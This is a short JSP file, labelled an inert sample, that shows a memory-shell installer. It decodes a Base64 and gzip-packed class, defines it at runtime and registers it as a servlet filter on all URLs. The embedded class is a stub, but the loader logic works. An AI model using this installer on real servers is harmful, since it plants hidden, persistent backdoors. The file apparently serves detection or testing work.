<%-- inert sample: a memory-shell installer shipping its filter class gzip-compressed and Base64-encoded
     (the class is a truncated header, nothing loads); inflated, defined through a private lookup and
     registered on the servlet context. --%>
<%@ page import="java.io.*,java.lang.invoke.MethodHandles,java.util.Base64,java.util.zip.GZIPInputStream" %>
<%
    final String packed = "H4sIAAAAAAACAzv1b9c+BgYGEwYpLgYWBhFGBjabzLzMEjtGBmYNzTBGBhbn/JRUBhwAAOgayIM9AAAA";
    ByteArrayOutputStream raw = new ByteArrayOutputStream();
    try (InputStream z = new GZIPInputStream(new ByteArrayInputStream(Base64.getDecoder().decode(packed)))) {
        byte[] chunk = new byte[2048];
        for (int n; (n = z.read(chunk)) > 0; ) raw.write(chunk, 0, n);
    }
    Class<?> made = MethodHandles.lookup().defineClass(raw.toByteArray());
    application.addFilter(made.getSimpleName(), (javax.servlet.Filter) made.getDeclaredConstructor().newInstance())
        .addMappingForUrlPatterns(null, false, "/*");
%>
